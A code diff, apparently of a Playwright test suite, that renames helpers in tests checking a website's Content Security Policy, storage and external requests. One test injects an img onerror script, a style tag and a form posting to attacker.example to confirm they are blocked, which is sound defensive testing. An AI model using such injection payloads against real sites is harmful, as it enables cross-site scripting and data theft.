@@ -2,7 +2,7 @@ import { readdirSync } from "node:fs";
 import type { Page } from "playwright-core";
 import { caching } from "../../src/gatsby/hosting/headers";
 import { everyPath } from "../../tools/routes";
-import { newVisit, sharedTab, siteUrl, type Visit, withBuiltSite } from "../support/browser";
+import { openBlankTab, sharedTabOpener, siteUrl, type Tab, withBuiltSite } from "../support/browser";
 import { sendButton } from "../support/contact-page";
 import { hydrateIsland, islandControl } from "../support/island";
 
@@ -17,8 +17,7 @@ test("immutable files are named after their content", () => {
   expect(files.filter((file) => !/[\da-f]{8}/.test(file))).toEqual([]);
 });
 
-/** Records CSP violations. */
-function recordViolations(page: Page): Promise<unknown> {
+function recordCspViolations(page: Page): Promise<unknown> {
   return page.addInitScript(() => {
     const violations: string[] = [];
     Object.assign(window, { violations });
@@ -32,22 +31,22 @@ const violationsOf = (page: Page): Promise<string[]> => page.evaluate("window.vi
 /** True if a text of data/ has run as a script (tests/support/second-firm.ts). */
 const isHacked = (page: Page) => page.evaluate(() => "hacked" in window);
 
-async function visitRecordingViolations(path: string): Promise<Visit> {
-  const visit = await newVisit();
-  await recordViolations(visit.page);
-  await visit.page.goto(siteUrl(path));
-  return visit;
+async function visitRecordingViolations(path: string): Promise<Tab> {
+  const tab = await openBlankTab();
+  await recordCspViolations(tab.page);
+  await tab.page.goto(siteUrl(path));
+  return tab;
 }
 
 const isExternal = (url: string) => !url.startsWith(siteUrl("/")) && !url.startsWith("data:");
 const isMap = (url: string) => url.startsWith("https://www.openstreetmap.org/export/embed.html?");
 
-const open = sharedTab({}, recordViolations);
+const openPage = sharedTabOpener({}, recordCspViolations);
 
 test.each(everyPath)(
   "%s violates no policy, stores nothing and requests only the map from other sites",
   async (path) => {
-    const { page, problems, requests } = await open(path);
+    const { page, problems, requests } = await openPage(path);
     if (await page.locator(islandControl).count()) await hydrateIsland(page);
     await page.evaluate(() => scrollTo({ top: document.body.scrollHeight, behavior: "instant" }));
     await page.waitForLoadState("networkidle");
@@ -56,14 +55,14 @@ test.each(everyPath)(
     expect(await isHacked(page)).toBe(false);
 
     expect(requests.filter((url) => isExternal(url) && !isMap(url))).toEqual([]);
-    const stored = await page.evaluate(async () => ({
+    const storedData = await page.evaluate(async () => ({
       cookies: document.cookie,
       local: Object.keys(localStorage),
       session: Object.keys(sessionStorage),
       databases: (await indexedDB.databases()).length,
       caches: (await caches.keys()).length,
     }));
-    expect(stored).toEqual({ cookies: "", local: [], session: [], databases: 0, caches: 0 });
+    expect(storedData).toEqual({ cookies: "", local: [], session: [], databases: 0, caches: 0 });
   },
 );
 
@@ -89,13 +88,13 @@ test("injected scripts, styles and form targets are blocked", async () => {
       `<style>h1 { display: none }</style><img src="x" onerror="window.hacked = 1" alt="">
        <form action="https://attacker.example/" method="post"></form>`,
     );
-    // The page's script would intercept a click.
+    // Submitted by script, because the page's script would intercept a click.
     [...document.forms].at(-1)?.submit();
   });
   await page.waitForFunction(
-    () => new Set(Object(window).violations.map((line: string) => line.split(" ")[0])).size === 3,
+    () => new Set(Object(window).violations.map((violation: string) => violation.split(" ")[0])).size === 3,
   );
-  expect((await violationsOf(page)).map((line) => line.split(" ")[0]).toSorted()).toEqual(
+  expect((await violationsOf(page)).map((violation) => violation.split(" ")[0]).toSorted()).toEqual(
     expect.arrayContaining(["form-action", "script-src-attr", "style-src-elem"]),
   );
   expect(page.url()).toBe(siteUrl("/"));
